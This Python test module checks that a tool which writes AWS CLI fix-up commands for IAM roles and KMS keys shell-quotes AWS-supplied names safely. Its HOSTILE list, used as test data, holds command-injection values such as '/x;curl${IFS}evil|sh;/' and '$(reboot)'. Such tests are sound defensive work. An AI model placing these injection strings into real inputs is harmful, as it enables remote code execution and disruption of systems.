"""Commands over names that come from AWS: whatever these hold, a shell takes each as the one word that it is."""

from __future__ import annotations

import argparse
import json
import os
import re
import shlex
import subprocess
from pathlib import Path
from typing import Final

from hypothesis import example, given
from hypothesis import strategies as st

from vended_logs.policy.grant import Scope
from vended_logs_tools.account.calls import Absent, Call
from vended_logs_tools.account.keys import Key, KeyPolicy
from vended_logs_tools.account.roles import Role, RolePolicies, RolePolicy, Simulated
from vended_logs_tools.diagnosis.commands import as_command, command
from vended_logs_tools.diagnosis.delivery_actions import ALLOWING
from vended_logs_tools.diagnosis.examination import Examination
from vended_logs_tools.diagnosis.finding import Diagnosis
from vended_logs_tools.diagnosis.identity import said_of
from vended_logs_tools.diagnosis.key import diagnose_absent, diagnose_policy, diagnose_state, of_log_group
from vended_logs_tools.diagnosis.role import Findings
from vended_logs_tools.diagnosis.role_causes import causes, missing_role
from vended_logs_tools.diagnosis.trust import diagnose_trust, statement
from vended_logs_tools.rules.iam import ROLE_ACTIONS

SCOPE: Final = Scope("aws", "eu-west-1", "123456789012")
PLACE: Final = ("--region", "eu-west-1", "--profile", "it's {place}")
HERE: Final = Examination(scope=SCOPE, place=shlex.join(PLACE))
HOSTILE: Final = (
    "/x;curl${IFS}evil|sh;/",
    "$(reboot)",
    "`reboot`",
    "a b",
    "it's",
    "' {place} '",
    '" {place} "',
    "{place}",
    "-x",
    "--profile",
    "a\\",
    "&& true #",
    "!!",
    "~",
    "*",
    "\n{place}\n",
    "",
)
names: Final = st.sampled_from(HOSTILE) | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


def words(text: str) -> list[str]:
    """Return a command of this place as a shell splits it; outside of quotes nothing is left for it to obey."""
    found = HERE.command(text)
    assert re.fullmatch(r"[\w@%+=:,./ >-]*", re.sub(r"""'[^']*'|"'\"""", "", found), re.ASCII), found
    return shlex.split(found)


def options(text: str, verb: str, *, file: str = "", flags: tuple[str, ...] = ()) -> dict[str, str]:
    """Return the options of a command as the AWS CLI takes them; it has no other words, and goes to the place."""
    split = words(text)
    if file:
        assert split[-2:] == [">", file]
        split = split[:-2]
    assert split[-len(PLACE) :] == list(PLACE)
    assert split[:3] == ["aws", *verb.split()]
    parser = argparse.ArgumentParser(allow_abbrev=False, exit_on_error=False)
    given_names = {one.partition("=")[0] for one in split[3 : -len(PLACE)] if one.startswith("--")} - set(flags)
    for name in given_names:
        parser.add_argument(name, dest=name.removeprefix("--"), required=True)
    for flag in flags:
        parser.add_argument(flag, dest=flag.removeprefix("--"), action="store_const", const="", required=True)
    return dict(vars(parser.parse_args(split[3 : -len(PLACE)])))


def findings(role: str, boundary: str | None, own: RolePolicies | None, simulated: Simulated) -> Diagnosis:
    """Return the one thing that is found of a role."""
    arn = f"arn:aws:iam::123456789012:role/{role}"
    said = said_of(own, has_boundary=boundary is not None) if own else None
    whole = Findings(role, arn, boundary, Call("iam", "x"), dict.fromkeys(ROLE_ACTIONS, simulated), own, said)
    [found] = causes(whole, "billing")
    return found


def policy(name: str, *calls: tuple[str, str], effect: str = "Allow", action: str = "s3:*") -> RolePolicy:
    """Return a policy that was read by a call."""
    statement = {"Effect": effect, "Action": action, "Resource": "*"}
    operation = "GetPolicyVersion" if any(key == "policy-arn" for key, _ in calls) else "GetRolePolicy"
    return RolePolicy(name, {"Statement": [statement]}, Call("iam", operation, calls))


@given(st.lists(names, min_size=1, max_size=4), names)
def test_law_each_value_is_one_word(values: list[str], name: str) -> None:
    """A command's words are those that were meant, at any place, whatever its values hold."""
    given_options = tuple((f"option-{number}", value) for number, value in enumerate(values))
    expected = dict(given_options)

    assert options(command("iam do-it", *given_options), "iam do-it") == expected
    call = Call("iam", "DoIt", given_options)
    whole = as_command(call, ("more", name), tail="> out.json")
    assert options(whole, "iam do-it", file="out.json") == {**expected, "more": name}


@given(names, names)
@example("orders", "/x;curl${IFS}evil|sh;/")
def test_missing_role(name: str, path: str) -> None:
    """A role's name and path, which IAM lets hold every printable character, reach the commands as they are."""
    found = missing_role(Absent(Call("iam", "GetRole"), "is absent"), name, path, "123456789012", "billing")
    made = options(found.commands[0], "iam create-role")
    put = options(found.commands[1], "iam put-role-policy")

    assert made["role-name"] == put["role-name"] == name
    assert made.get("path", "/") == path
    assert json.loads(made["assume-role-policy-document"])["Statement"] == [statement("123456789012")]
    assert json.loads(put["policy-document"])["Statement"] == [ALLOWING]


@given(names, st.lists(names, max_size=3))
def test_lacking(role: str, taken: list[str]) -> None:
    """The policy for the role gets a name that none of its policies has, in any case."""
    held = [*taken, "LOGDELIVERY"]
    found = findings(role, None, RolePolicies((), None, inline=frozenset(held)), Simulated("implicitDeny"))
    put = options(found.commands[0], "iam put-role-policy")

    assert put["role-name"] == role
    assert put["policy-name"].lower() not in {one.lower() for one in held}


@given(names, names, names)
def test_denied(role: str, name: str, sid: str) -> None:
    """The command that shows the policy with the Deny names it as it is."""
    taking = policy(name, ("role-name", role), ("policy-name", name), effect="Deny", action="logs:*")
    taking.document["Statement"][0]["Sid"] = sid  # type: ignore[index]
    found = findings(role, None, RolePolicies((taking,), None), Simulated("explicitDeny"))

    assert options(found.commands[0], "iam get-role-policy") == {"role-name": role, "policy-name": name}


@given(names, names, names, st.booleans())
def test_boundary(role: str, name: str, version: str, is_read: bool) -> None:  # noqa: FBT001 - drawn by hypothesis
    """A boundary's ARN, which has a path, and its version reach the commands as they are."""
    arn = f"arn:aws:iam::123456789012:policy/{name}"
    limit = policy(name, ("policy-arn", arn), ("version-id", version)) if is_read else None
    own = RolePolicies((policy("own", action="logs:*"),), limit)
    found = findings(role, arn, own, Simulated("implicitDeny", by_boundary=False))
    [told] = found.commands

    if limit is None:
        assert options(told, "iam get-policy") == {"policy-arn": arn}
        return
    put = options(told, "iam create-policy-version", flags=("--set-as-default",))
    assert put["policy-arn"] == arn
    assert json.loads(put["policy-document"])["Statement"] == [limit.document["Statement"][0], ALLOWING]  # type: ignore[index]


@given(names, names, names)
def test_boundary_with_a_denial(name: str, version: str, sid: str) -> None:
    """The command that shows a boundary with a Deny names it as it is."""
    arn = f"arn:aws:iam::123456789012:policy/{name}"
    limit = policy(name, ("policy-arn", arn), ("version-id", version), effect="Deny", action="logs:*")
    limit.document["Statement"][0]["Sid"] = sid  # type: ignore[index]
    own = RolePolicies((policy("own", action="logs:*"),), limit)
    found = findings("orders", arn, own, Simulated("implicitDeny", by_boundary=False))

    assert options(found.commands[0], "iam get-policy-version") == {"policy-arn": arn, "version-id": version}


@given(names, names)
def test_boundary_of_aws(role: str, name: str) -> None:
    """What is made in the place of AWS's policy is what the role is given."""
    arn = f"arn:aws:iam::aws:policy/{name}"
    own = RolePolicies((policy("own", action="logs:*"),), policy(name, ("policy-arn", arn), ("version-id", "v1")))
    found = findings(role, arn, own, Simulated("implicitDeny", by_boundary=False))
    made = options(found.commands[-2], "iam create-policy")
    put = options(found.commands[-1], "iam put-role-permissions-boundary")

    assert put["role-name"] == role
    assert put["permissions-boundary"] == f"arn:aws:iam::123456789012:policy/{made['policy-name']}"


@given(names, names, names)
def test_trust(role: str, sid: str, value: str) -> None:
    """A trust policy is put back with all that it held, at the place as anywhere."""
    kept = {
        "Sid": sid,
        "Effect": "Allow",
        "Principal": {"Service": "lambda.amazonaws.com"},
        "Action": "sts:AssumeRole",
        "Condition": {"StringEquals": {"aws:PrincipalTag/x": value}},
    }
    there = Role(role, {"Version": "2012-10-17", "Statement": [kept]}, None, Call("iam", "GetRole"))
    [found] = diagnose_trust(there, SCOPE, "billing")
    put = options(found.commands[0], "iam update-assume-role-policy")

    assert put["role-name"] == role
    assert json.loads(put["policy-document"])["Statement"] == [kept, statement("123456789012")]


NO_LOGS: Final = {
    "Effect": "Deny",
    "Principal": {"Service": "logs.eu-west-1.amazonaws.com"},
    "Action": "*",
    "Resource": "*",
}
LONG: Final = {"Sid": "x" * 30_000, "Effect": "Allow", "Principal": {"AWS": "1"}, "Action": "kms:*", "Resource": "*"}


@given(names, names)
def test_key(key: str, group: str) -> None:
    """A key's name and a log group's reach the commands as they are, and the statement is no command."""
    call = Call("kms", "GetKeyPolicy", (("key-id", key), ("policy-name", "default")))
    use = of_log_group(group, SCOPE)
    [closed] = diagnose_policy(key, KeyPolicy('{"Statement": []}', call), use, "billing")
    [denied] = diagnose_policy(key, KeyPolicy(json.dumps({"Statement": NO_LOGS}), call), use, "billing")
    [long] = diagnose_policy(key, KeyPolicy(json.dumps({"Statement": LONG}), call), use, "billing")
    [deleted] = diagnose_state(Key(key, "PendingDeletion", call), use, "billing")
    absent = diagnose_absent(Absent(call, "is absent"), key, use, "billing")

    put = options(closed.commands[0], "kms put-key-policy")
    added = json.loads(put["policy"])["Statement"]

    assert put["key-id"] == key
    assert added[0]["Condition"]["ArnEquals"]["kms:EncryptionContext:aws:logs:arn"].endswith(f":{group}")
    assert options(denied.commands[0], "kms get-key-policy")["key-id"] == key
    assert options(long.commands[0], "kms get-key-policy", file="key-policy.json")["key-id"] == key
    assert [json.loads(shlex.split(HERE.command(long.commands[1]))[-1])] == added
    assert options(long.commands[2], "kms put-key-policy")["policy"] == "file://key-policy.json"
    assert options(deleted.commands[0], "kms cancel-key-deletion") == {"key-id": key}
    assert options(deleted.commands[1], "kms enable-key") == {"key-id": key}
    assert options(absent.commands[0], "logs disassociate-kms-key") == {"log-group-name": group}


def run(script: str, folder: Path) -> list[list[str]]:
    """Return the words of each call that a shell makes of the AWS CLI, whose answer is ``v7``."""
    stand_in = "aws() { for word; do printf '%s\\0' \"$word\"; done >> calls; printf '\\n\\0' >> calls; echo v7; }\n"
    clean = {"PATH": os.defpath}
    subprocess.run(["/bin/sh", "-euc", stand_in + script], cwd=folder, env=clean, check=True)  # noqa: S603 - our own
    called = (folder / "calls").read_text(encoding="utf-8").split("\n\0")
    return [one.split("\0")[:-1] for one in called[:-1]]


def test_a_shell_takes_them_so(tmp_path: Path) -> None:
    """A shell itself hands on each hostile value as it is, and does nothing else."""
    hostile = [one for one in HOSTILE if "\n" not in one]
    script = "\n".join(HERE.command(command("iam do-it", ("name", one))) for one in hostile)
    called = run(script, tmp_path)

    taken = [" ".join(words[2:-4]).removeprefix("--name")[1:] for words in called]
    assert taken == hostile
    assert all(tuple(words[-4:]) == PLACE for words in called)
    assert [one.name for one in tmp_path.iterdir()] == ["calls"]


def test_a_shell_takes_the_way_through_a_file(tmp_path: Path) -> None:
    """The policy is written to the file, an editor is opened on it, and the file is put."""
    call = Call("kms", "GetKeyPolicy", (("key-id", "it's"), ("policy-name", "default")))
    use = of_log_group("/x;reboot", SCOPE)
    [found] = diagnose_policy("it's", KeyPolicy(json.dumps({"Statement": LONG}), call), use, "billing")
    editor = 'EDITOR=edit; edit() { echo edited >> "$1"; }\n'
    read, put = run(editor + "\n".join(map(HERE.command, found.commands)), tmp_path)

    assert read[:4] == ["kms", "get-key-policy", "--key-id", "it's"]
    assert (tmp_path / "key-policy.json").read_text(encoding="utf-8") == "v7\nedited\n"
    assert put[put.index("--policy") + 1] == "file://key-policy.json"
